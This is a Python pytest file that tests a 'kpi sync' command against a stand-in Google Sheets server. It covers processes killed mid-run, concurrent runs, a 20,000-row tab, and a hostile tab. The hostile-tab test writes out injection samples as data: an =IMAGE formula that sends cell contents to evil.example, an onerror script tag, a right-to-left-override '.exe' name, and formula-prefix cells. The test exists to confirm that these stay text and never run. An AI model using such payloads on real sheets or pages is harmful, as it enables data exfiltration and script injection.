"""Real `kpi sync run` processes: killed at any moment, or two at once. Nothing is doubled or lost."""

import datetime as dt
import os
import random
import signal
import subprocess
import time

import pytest

from addin.demo import Fault, Google, Slow, serving
from kpi_core.workspace import Store, audit
from tests.addin.sync.conftest import LEADS, SPEND
from tests.command import KPI, TODAY, environment, kpi

KILLS = 12 if os.environ.get("KPI_REQUIRE_ALL") else 6
OURS = ("Tableau de bord KPI", "Problèmes KPI", "Historique KPI")


class Desk:
    """A sheet on a stand-in that listens, and real processes that sync it."""

    def __init__(self, folder, google, address):
        self.folder, self.google = folder / "w", google
        self.accounts = str(folder / "accounts")
        self.sheet = google.create("Suivi", locale="fr_FR", timezone="Europe/Paris")
        self.sheet.tab(0).rename("Dépenses")
        self.spend = self.sheet.tab(0)
        self.spend.write("A1", SPEND)
        self.sheet.add_tab("Leads", LEADS)
        link = f"https://docs.google.com/spreadsheets/d/{self.sheet.id}"
        self.kpi("connect", link, "--stand-in", address)

    def kpi(self, *words, code=0, **more):
        how = {"folder": self.folder, "code": code, "KPI_CREDENTIALS": self.accounts}
        return kpi("sync", *words, **how, **more)

    def start(self, *words, **more):
        said = [KPI, "--workspace", self.folder, "--lang", "en", "--today", TODAY, "sync", *words]
        return subprocess.Popen(
            said,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=environment(KPI_CREDENTIALS=self.accounts, **more),
        )

    def settled(self):
        for _ in range(4):
            if "nothing changed" in self.kpi("run").stdout:
                return
        raise AssertionError

    def ours(self):
        """Return what our tabs say, but for when, by which run and after how many corrections."""
        values = {title: self.sheet.tab(title).values() for title in OURS}
        board = values[OURS[0]]
        values[OURS[0]] = [row[:9] + row[10:] for row in board[:2] + board[3:]]
        values[OURS[2]] = [row[3:] for row in values[OURS[2]]]
        return values

    def rows(self):
        """Return every row of spend and lead that counts, and what the history holds of them."""
        with Store(self.folder) as store:
            cursor = store.cursor()
            assert audit.verify(cursor)
            spend = cursor.execute(
                "SELECT spent_on, source, amount FROM spend ORDER BY ALL"
            ).fetchall()
            leads = cursor.execute("SELECT email FROM leads ORDER BY ALL").fetchall()
            past = cursor.execute("SELECT count(*) FROM spend_history").fetchall()[0][0]
        return spend, leads, past


@pytest.fixture(name="made")
def _made(tmp_path):
    def make(name):
        (tmp_path / name).mkdir()
        google = Google(seed=5)
        return google, serving(google), tmp_path / name

    return make


def test_processes_killed_at_any_moment_lose_and_double_nothing(made):
    """
    SIGKILL at random moments of real runs: afterwards the sheet is as one that nobody disturbed.
    """
    chance = random.Random(11)  # noqa: S311 - no secret
    google, served, folder = made("killed")
    with served as address:
        desk = Desk(folder, google, address)
        began = time.monotonic()
        desk.kpi("run")
        whole = time.monotonic() - began
        killed = 0
        for n in range(KILLS):
            desk.spend.set(1 + n % 20, 3, 3000.25 + n)
            # Some die as they start, most in the middle, and some between two calls to Google.
            moment = chance.uniform(0.2, 1.1) * whole
            calls = chance.randrange(1, 5) if n % 2 else None
            before = len(google.journal)
            process = desk.start("run")
            until = time.monotonic() + (moment if calls is None else 30)
            while process.poll() is None and time.monotonic() < until:
                if calls is not None and len(google.journal) - before >= calls:
                    break
                time.sleep(0.002)
            process.send_signal(signal.SIGKILL)
            process.communicate(timeout=30)
            killed += process.returncode == -signal.SIGKILL
        desk.settled()
        numbers = [row[0] for row in desk.sheet.tab(OURS[2]).values()[1:]]
        titles = desk.sheet.titles()
        left, rows = desk.ours(), desk.rows()

    google, served, folder = made("undisturbed")
    with served as address:
        desk = Desk(folder, google, address)
        for n in range(KILLS):
            desk.spend.set(1 + n % 20, 3, 3000.25 + n)
        desk.settled()
        right, right_rows = desk.ours(), desk.rows()

    assert killed >= KILLS // 2
    assert sorted({*OURS, "Dépenses", "Leads"}) == sorted(titles)
    assert [*range(1, len(numbers) + 1)] == numbers
    assert right[OURS[0]] == left[OURS[0]]
    assert right[OURS[1]] == left[OURS[1]]
    # The last value that the history tells of each figure is the one of the undisturbed sheet.
    assert dict(map(told, right[OURS[2]])) == dict(map(told, left[OURS[2]]))
    assert right_rows[:2] == rows[:2]


def told(row):
    """Return (KPI, what is said of it) of a row of the history."""
    return row[0], tuple(row[1:])


def test_two_processes_at_once_run_one_after_the_other(made):
    """
    The second waits for the first, says so, and finds nothing left to do, or looks once more.
    """
    google, served, folder = made("two")
    with served as address:
        desk = Desk(folder, google, address)
        google.fail(Fault(Slow(2.0), match="batchGet"))
        both = [desk.start("run", KPI_WAIT="50") for _ in range(2)]
        ended = [(process.communicate(timeout=60), process.returncode) for process in both]
        numbers = [row[0] for row in desk.sheet.tab(OURS[2]).values()[1:]]

    said = [out for (out, _), _ in ended]
    assert [0, 0] == [code for _, code in ended]
    assert 1 == sum("was written" in out for out in said)
    assert 1 == sum("already says it" in out for out in said)
    assert any("Waiting for another command" in err for (_, err), _ in ended)
    assert [*range(1, len(numbers) + 1)] == numbers


def test_a_second_process_that_may_not_wait_says_who_is_at_work(made):
    """
    The workspace is in use: said at once with exit 2, and nothing is sent to Google.
    """
    google, served, folder = made("impatient")
    with served as address:
        desk = Desk(folder, google, address)
        google.fail(Fault(Slow(4.0), match="batchGet"))
        before = len(google.journal)
        first = desk.start("run")
        until = time.monotonic() + 30
        while not any(
            call.operation.endswith("batchGet") for call in list(google.journal)[before:]
        ):
            if len(google.journal) - before >= 2 or time.monotonic() > until:
                break
            time.sleep(0.01)
        second = desk.kpi("run", code=2, KPI_WAIT="0")
        told_, _ = first.communicate(timeout=60)

    assert "was written" in told_
    assert "" == second.stdout
    assert "Another program has the workspace" in second.stderr


def test_a_large_tab_runs_and_costs_one_call_once_it_is_settled(made):
    """
    20,000 rows are taken over whole, and unchanged they cost one call.
    """
    rows = [
        [dt.date(2025, 1 + n % 10, 1 + n % 28), f"Canal {n % 12}", f"Campagne {n}", 1 + n % 100]
        for n in range(20_000)
    ]
    google, served, folder = made("large")
    with served as address:
        desk = Desk(folder, google, address)
        desk.spend.clear()
        desk.spend.write("A1", [SPEND[0][:4], *rows])
        first = desk.kpi("run").stdout
        desk.kpi("run")
        last = desk.kpi("run").stdout
        spend, _, _ = desk.rows()

    assert "valid: 20120" in first.replace(",", "")
    assert "nothing changed since the last run (API calls: 1)" in last
    assert len(rows) == len(spend)
    assert sum(row[3] for row in rows) == sum(float(amount) for *_, amount in spend)


def test_a_hostile_tab_stays_text(made):
    """
    Formulas, pages, a cell of 50,000 characters and 200 columns: read, told, and never run.
    """
    evil = '=IMAGE("https://evil.example/?q="&A1)'
    script = "<img src=x onerror=alert(1)>"
    wide = [SPEND[0][:4] + [f"Remarque {n}" for n in range(200)]]
    wide += [["2025-10-01", script, evil, 10, *["+1+1"] * 200], [evil, "x" * 50_000, script, 5]]
    wide += [["2025-10-02", "LinkedIn", "\u202etxt.exe", 10, *["@SUM(1)"] * 200]]
    google, served, folder = made("hostile")
    with served as address:
        desk = Desk(folder, google, address)
        desk.spend.write("A30", wide[1:])
        desk.spend.write("E1", [wide[0][4:]])
        ran = desk.kpi("run")
        planned = desk.kpi("plan")
        formulas = {f for t in desk.sheet.tabs() for f in t.formulas().values()}
        problems = desk.sheet.tab(OURS[1]).values()
        again = desk.kpi("run").stdout

    assert "was written" in ran.stdout
    assert all(f.startswith("=SPARKLINE(") for f in formulas)
    assert any(evil in row for row in problems)
    assert max(len(str(cell)) for row in problems for cell in row) <= 50_000
    assert "already says it" in again
    assert "x" * 200 not in planned.stdout + planned.stderr
